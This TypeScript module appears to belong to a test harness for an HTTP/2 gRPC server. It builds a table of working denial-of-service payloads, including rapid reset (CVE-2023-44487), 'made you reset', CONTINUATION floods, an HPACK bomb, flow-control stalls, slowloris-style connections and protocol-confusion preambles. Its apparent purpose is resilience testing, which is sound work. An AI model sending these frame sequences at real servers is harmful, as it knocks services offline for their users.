// What the attacks say.
import { envelope } from "../../support/bytes.ts";
import {
  ACK,
  CONTINUATION,
  DATA,
  data,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headers,
  PADDED,
  PING,
  preface,
  reset,
  SETTINGS,
  settings,
  windowUpdate,
} from "../../support/frames.ts";
import { block } from "../../support/hpack.ts";
import { collect, greet, watch } from "../../support/wires.ts";
import { Template } from "./template.ts";

/** One attack, as the program that makes it needs it. */
export interface Attack {
  /** At once. */
  readonly connections: number;
  /** What a connection says first. */
  readonly first: Uint8Array;
  /** What it says then, for the `n`th time. Absent: nothing more. */
  readonly again?: (n: number) => Uint8Array;
  /** Absent: as fast as it is taken. */
  readonly everyMs?: number;
  /** Bytes that flow control counts, each time: it keeps to the connection's window, and to that of stream 1 if it is `ofOne`. */
  readonly flow?: { readonly bytes: number; readonly ofOne: boolean };
  /** It reads what the server says. */
  readonly reads: boolean;
  /** A connection that was cut is replaced. */
  readonly reconnects: boolean;
}

const PRIORITY = 2;
const eight = Buffer.alloc(8);
const letter = Buffer.from("x");
const largestWindow = 2 ** 31 - 1;

const head = (path: string): string[] => [
  ...[":method", "POST", ":scheme", "http", ":authority", "a", ":path", path],
  ...["content-type", "application/grpc", "te", "trailers"],
];
const opens = (stream: number, path = greet): Buffer => headers(stream, false, ...head(path));
const hello = Buffer.concat([preface, settings(), frame(SETTINGS, ACK, 0)]);

function repeated(times: number, ...parts: readonly Uint8Array[]): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => Buffer.concat(parts)));
}

/** One connection that says the same for ever, and another one when that is cut. */
function flood(again: (n: number) => Uint8Array, first: readonly Uint8Array[] = []): Attack {
  return { connections: 1, first: Buffer.concat([hello, ...first]), again, reads: true, reconnects: true };
}

/** The same frames, whatever their stream. */
function same(bytes: Uint8Array, times: number, ...first: readonly Uint8Array[]): Attack {
  const many = repeated(times, bytes);
  return flood(() => many, first);
}

/** The same frames on stream after stream. */
function streams(
  count: number,
  make: (stream: number) => readonly Uint8Array[],
  ...first: readonly Uint8Array[]
): Attack {
  const template = new Template(count, make);
  return flood((n) => template.said(n), first);
}

/** Connections that say something, and then wait. */
function standing(connections: number, first: Uint8Array, rest: Partial<Attack> = {}): Attack {
  return { connections, first, reads: true, reconnects: false, ...rest };
}

const bomb = (): Buffer => {
  const entry = block("x", "y".repeat(4_000));
  entry[0] = 0x40;
  return frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([block(...head(greet)), entry]));
};
const references = Buffer.concat([block(...head(greet)), Buffer.alloc(16_000, 0xbe)]);
const manyFields = block(...head(greet), ...Array.from({ length: 600 }, (_, n) => [`x-${n}`, "y"]).flat());
const padded = (stream: number): Buffer =>
  frame(DATA, PADDED, stream, Buffer.concat([Buffer.from([255]), letter, Buffer.alloc(255)]));
const twoGib = Buffer.concat([Buffer.from([0, 0x7f, 0xff, 0xff, 0xff]), Buffer.alloc(16_000)]);

export const attacks: Readonly<Record<string, Attack>> = {
  "rapid reset (CVE-2023-44487)": streams(500, (id) => [opens(id), reset(id, 8)]),
  "made you reset (CVE-2025-8671)": streams(500, (id) => [opens(id), windowUpdate(id, 0)]),
  "CONTINUATION, 16 KiB each": same(
    frame(CONTINUATION, 0, 1, Buffer.alloc(16_384, 0x90)),
    4,
    frame(HEADERS, 0, 1, block(...head(greet))),
  ),
  "CONTINUATION, empty": same(frame(CONTINUATION, 0, 1), 4_000, frame(HEADERS, 0, 1, block(...head(greet)))),
  SETTINGS: same(settings(4, 70_000), 4_000),
  PING: same(frame(PING, 0, 0, eight), 4_000),
  PRIORITY: same(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 9])), 4_000, opens(1, collect)),
  WINDOW_UPDATE: same(windowUpdate(0, 1), 4_000),
  "empty DATA": same(frame(DATA, 0, 1), 4_000, opens(1, collect)),
  "DATA of one byte": {
    ...same(data(1, false, letter), 6_000, opens(1, collect)),
    flow: { bytes: 6_000, ofOne: true },
  },
  "DATA of an empty message": {
    ...same(data(1, false, envelope(0, "")), 4_000, opens(1, collect)),
    flow: { bytes: 20_000, ofOne: true },
  },
  "padding of 255 bytes for each byte": {
    ...same(padded(1), 250, opens(1, collect)),
    flow: { bytes: 250 * 257, ofOne: true },
  },
  "HPACK bomb: 16,000 references to 4 KB": streams(
    4,
    (id) => [frame(HEADERS, END_HEADERS | END_STREAM, id + 2, references)],
    bomb(),
  ),
  "header lists that are too large": streams(16, (id) => [
    frame(HEADERS, END_HEADERS | END_STREAM, id, manyFields),
  ]),
  "more streams than allowed": streams(500, (id) => [opens(id, collect)]),
  "calls without end": streams(250, (id) => [opens(id), data(id, true, envelope(0, ""))]),
  "large answers, a window that never opens": {
    ...streams(250, (id) => [opens(id, watch), data(id, true, envelope(0, ""))], settings(4, 0)),
    reconnects: true,
  },
  "large answers, a window of one byte": streams(
    200,
    (id) => [opens(id, watch), data(id, true, envelope(0, "")), ...Array(20).fill(windowUpdate(id, 1))],
    settings(4, 1),
    windowUpdate(0, largestWindow - 65_535),
  ),
  "large answers that are not read": {
    ...streams(
      250,
      (id) => [opens(id, watch), data(id, true, envelope(0, ""))],
      settings(4, largestWindow),
      windowUpdate(0, largestWindow - 65_535),
    ),
    reads: false,
  },
  "a message that claims 2 GiB, on stream after stream": {
    ...streams(4, (id) => [opens(id), data(id, false, twoGib)]),
    flow: { bytes: 4 * twoGib.length, ofOne: false },
  },
  "frames behind GOAWAY": streams(
    250,
    (id) => [opens(id), data(id, true, envelope(0, ""))],
    frame(DATA, 0, 0, letter),
  ),
  "2,000 connections that stop inside the preface": standing(2_000, preface.subarray(0, 12)),
  "500 connections that are idle": standing(500, hello),
  "200 connections with slow headers": standing(
    200,
    Buffer.concat([hello, frame(HEADERS, 0, 1, block(...head(greet)))]),
    { again: () => frame(CONTINUATION, 0, 1, block("x", "y")), everyMs: 1_000 },
  ),
  "100 connections with slow bodies": standing(100, Buffer.concat([hello, opens(1, collect)]), {
    again: () => data(1, false, letter),
    everyMs: 100,
  }),
  "HTTP/1.1 that begins as HTTP/2 does": {
    connections: 1,
    first: Buffer.from(`PRI * HTTP/2.0\r\n\r\nSX\r\n\r\nPOST ${greet} HTTP/1.1\r\nhost: a\r\n\r\n`),
    reads: true,
    reconnects: true,
  },
  "HTTP/2 behind a request of HTTP/1.1": {
    connections: 1,
    first: Buffer.concat([
      Buffer.from(`POST ${greet} HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n`),
      hello,
      opens(1),
    ]),
    reads: true,
    reconnects: true,
  },
};
